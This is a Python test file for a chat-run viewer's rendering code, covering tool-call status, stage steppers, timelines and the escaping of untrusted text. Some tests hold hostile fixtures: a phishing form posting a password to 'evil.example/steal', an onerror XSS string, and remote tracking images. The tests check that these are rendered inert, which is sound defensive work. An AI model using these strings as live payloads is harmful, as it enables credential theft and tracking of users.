"""Events → chat messages, stage stepper and timeline (shared by Play and Runs)."""

from __future__ import annotations

from datetime import datetime, timezone

from vibesearch.app.render import chat_messages, disclosure_turns, stage_pointer, stage_timeline_html, stepper_html
from vibesearch.run.events import (
    EndEvent,
    GraphEvent,
    MessageEvent,
    StageEvent,
    StoredEvent,
    ToolCallEvent,
    ToolResultEvent,
)


def _stored(datas):
    ts = datetime.now(timezone.utc)
    return [StoredEvent(run_id="r1", seq=i + 1, ts=ts, data=d) for i, d in enumerate(datas)]


def _opening(task):
    return [
        StageEvent(stage_index=0, stage_name=task.stages[0].name, reply_kind="open", decided_by="rules"),
        MessageEvent(role="user", content=task.persona.initial_query),
    ]


def test_tool_call_is_pending_until_its_result_arrives(bundled_tasks):
    task = bundled_tasks[0]
    call = ToolCallEvent(call_id="c1", tool="search", arguments={"query": "Newton Leibniz", "topn": 3})
    events = _stored([*_opening(task), MessageEvent(role="assistant", content="", n_tool_calls=1), call])
    msgs = chat_messages(events, task)
    tool_msgs = [m for m in msgs if m.metadata.get("title", "").startswith("⚙ search(")]
    assert len(tool_msgs) == 1
    assert tool_msgs[0].metadata["status"] == "pending"
    assert 'query="Newton Leibniz"' in tool_msgs[0].metadata["title"]

    result = ToolResultEvent(call_id="c1", tool="search", content="1. A page about calculus", elapsed_s=0.25)
    msgs = chat_messages([*events, *_stored([result])], task)
    tool_msgs = [m for m in msgs if m.metadata.get("title", "").startswith("⚙ search(")]
    assert tool_msgs[0].metadata["status"] == "done"
    assert tool_msgs[0].content == "1. A page about calculus"
    assert tool_msgs[0].metadata["duration"] == 0.25


def test_messages_stage_notes_graph_and_end(bundled_tasks):
    task = bundled_tasks[0]
    datas = [
        *_opening(task),
        MessageEvent(role="assistant", content="Here is what I found. Would you like more?", final=True),
        StageEvent(stage_index=1, stage_name=task.stages[1].name, advanced=True, reply_kind="disclose", trigger_met=True, decided_by="human"),
        StageEvent(stage_index=1, stage_name=task.stages[1].name, advanced=True, reply_kind="disclose", trigger_met=True,
                   decided_by="shadow", shadow=True, rationale="cue present"),
        MessageEvent(role="user", content=task.stages[1].line),
        MessageEvent(role="user", content="Write the graph", phase="extraction"),
        MessageEvent(role="assistant", content="[]", phase="extraction"),
        GraphEvent(triples=[{"head": "a", "relation": "b", "tail": "c"}]),
        EndEvent(termination="max_user_turns"),
    ]
    msgs = chat_messages(_stored(datas), task)
    plain = [(m.role, m.content) for m in msgs if not m.metadata]
    assert plain == [
        ("user", task.persona.initial_query),
        ("assistant", "Here is what I found. Would you like more?"),
        ("user", task.stages[1].line),
    ]
    titles = [m.metadata.get("title", "") for m in msgs if m.metadata]
    assert any(t.startswith("✓ Disclosed stage 2/") and "by human" in t for t in titles)
    assert any("shadow" in t and "disclose" in t for t in titles)
    assert any("Extraction instruction" in t for t in titles)
    assert any(t == "◈ Extracted graph: 1 triples" for t in titles)
    assert titles[-1] == "■ Run ended (max_user_turns)"


def test_stepper_marks_disclosed_current_and_pending(bundled_tasks):
    task = next(t for t in bundled_tasks if t.stage_count() >= 4)
    datas = [
        *_opening(task),
        MessageEvent(role="assistant", content="reply", final=True),
        StageEvent(stage_index=1, advanced=True, reply_kind="disclose", decided_by="rules"),
        MessageEvent(role="user", content=task.stages[1].line),
        MessageEvent(role="assistant", content="reply 2", final=True),
        StageEvent(stage_index=1, advanced=False, reply_kind="push", decided_by="rules"),
        MessageEvent(role="user", content="more please"),
    ]
    events = _stored(datas)
    assert stage_pointer(events) == 1
    assert disclosure_turns(events) == {0: 1, 1: 2}
    html = stepper_html(task, events, running=True)
    assert html.count("vs-done") == 2
    assert html.count("vs-current") == 1
    assert html.count("vs-pending") == task.stage_count() - 3
    assert f"2 / {task.stage_count()} disclosed" in html
    assert "waiting for" in html and task.stages[2].trigger.condition[:20] in html
    # once the run is over nothing is "current"
    assert "vs-current" not in stepper_html(task, events, running=False)
    timeline = stage_timeline_html(task, events)
    assert timeline.count("<tr") == 4  # header + open + disclose + push
    assert "push" in timeline and "disclose" in timeline


def test_shadow_stage_event_does_not_move_the_pointer(bundled_tasks):
    task = bundled_tasks[0]
    events = _stored([*_opening(task), StageEvent(stage_index=1, advanced=True, reply_kind="disclose", decided_by="shadow", shadow=True)])
    assert stage_pointer(events) == 0


def test_untrusted_text_draws_no_html_and_loads_no_image():
    from vibesearch.app.render import inert

    phishing = "Session expired. <form action='http://evil.example/steal'><input type=password name=p><button>Log in</button></form>"
    shown = inert(phishing + " ![](http://evil.example/pixel.png) and [a link](http://ok.example)")
    assert "<form" not in shown and "<input" not in shown and "<button" not in shown
    assert "&lt;form" in shown and "![" not in shown and "[🖼 ](http://evil.example/pixel.png)" in shown
    assert "[a link](http://ok.example)" in shown  # links stay links (nothing is fetched until clicked)
    assert inert("```python\nif a < b: print('<b>')\n```") == "```python\nif a < b: print('<b>')\n```"  # code stays code
    assert inert("x < 3 and 5 > 2") == "x < 3 and 5 > 2"
    assert "<form" not in inert("``<form>`")  # a mismatched backtick run is not code


def test_every_chat_bubble_made_of_untrusted_text_is_inert():
    from vibesearch.app.render import chat_messages
    from vibesearch.run.events import ErrorEvent, MessageEvent, NoteEvent, StoredEvent, ToolCallEvent, ToolResultEvent

    bad = "<img src=x onerror=alert(1)><form>"
    datas = [MessageEvent(role="user", content=bad), MessageEvent(role="assistant", content=bad, thinking=bad, final=True),
             ToolCallEvent(call_id="c", tool="visit"), ToolResultEvent(call_id="c", tool="visit", content=bad),
             ErrorEvent(source="tool", message=bad), NoteEvent(text=bad)]
    from datetime import datetime, timezone

    events = [StoredEvent(run_id="r", seq=i, ts=datetime.now(timezone.utc), data=d) for i, d in enumerate(datas)]
    for msg in chat_messages(events):
        assert "<img" not in str(msg.content) and "<form" not in str(msg.content), msg.content


REMOTE = "http://198.51.100.9/pixel.png"


def _loads_nothing(markdown: str) -> bool:
    """No Markdown image and no raw tag of ``markdown`` can load a picture."""
    import re

    return "![" not in markdown and not re.search(r"<\s*img", markdown, re.I)


def test_a_stage_name_or_tool_argument_in_a_bubble_title_loads_no_image():
    from vibesearch.app.render import call_title, md_line, stage_note

    for name in (f"Budget ![x]({REMOTE})", f"<img src='{REMOTE}'>", f"a\n```\n![x]({REMOTE})\n```"):
        note = stage_note(StageEvent(stage_index=1, stage_name=name, advanced=True, reply_kind="disclose", decided_by="rules"))
        assert note is not None and _loads_nothing(note.metadata["title"]), note.metadata["title"]
        assert _loads_nothing(md_line(name)) and "\n" not in md_line(name)
    title = call_title(ToolCallEvent(call_id="c", tool="visit", arguments={"url": f"![x]({REMOTE})"}))
    assert _loads_nothing(title) and "visit(" in title, title


def test_markdown_that_only_looks_like_code_is_made_inert():
    from vibesearch.app.render import inert

    image, tag = f"![x]({REMOTE})", f"<img src='{REMOTE}'>"
    looks_like_code = [
        f"- item\n  ```\n{image}\n  ```",  # a fence inside a list item: an unindented line ends it
        f"    ```\n{tag}\n```",  # an indented "fence" is an indented code block of one line
        f"```a`b\n{image}\n```",  # a backtick fence's info may hold no backtick: not a fence
        f"```\nx\n```~\n{image}\n```",  # a closing fence some readers accept ends the code there
        f"```\n{image}",  # never closed
        f"> ```\n{tag}\n```",
    ]
    for text in looks_like_code:
        assert _loads_nothing(inert(text)), (text, inert(text))
    real = f"```\n{image}\n{tag}\n```"
    assert inert(real) == real  # real code is shown as written (code draws nothing)
    assert inert(f"~~~~\n{image}\n~~~\n~~~~") == f"~~~~\n{image}\n~~~\n~~~~"


def test_a_studys_consent_and_name_load_no_image(tmp_path):
    """The player's door (the study view's load) as a player's request: consent and name inert."""
    from vibesearch.app import StudyConfig, create_study
    from vibesearch.app.ui import app_context, build_app
    from vibesearch.config import Settings

    settings = Settings(db=tmp_path / "s.db", auth="root:pw", admins="root")
    demo = build_app(settings)
    ctx = app_context(demo)
    task_id = next(iter(ctx.catalog.tasks))
    consent = f"You agree. ![x]({REMOTE}) <img src='{REMOTE}'>"
    study, links = create_study(ctx.store, f"Pilot ![y]({REMOTE})", StudyConfig(tasks=(task_id,), consent=consent), "user:root")
    play = ctx.store.claim_study_code(study.id, links[0].code, player_prefix=f"study:{study.id}:")
    assert play is not None

    class Request:  # what the handlers read of Gradio's request: the login
        username = play.player

    load = next(fn for fn in demo.fns.values() if fn.name == "player_load")
    out = load.fn(Request())
    texts = [v for v in out.values() if isinstance(v, str)]
    assert any("You agree." in t for t in texts), texts
    assert all(_loads_nothing(t) for t in texts), texts
    ctx.manager.shutdown()
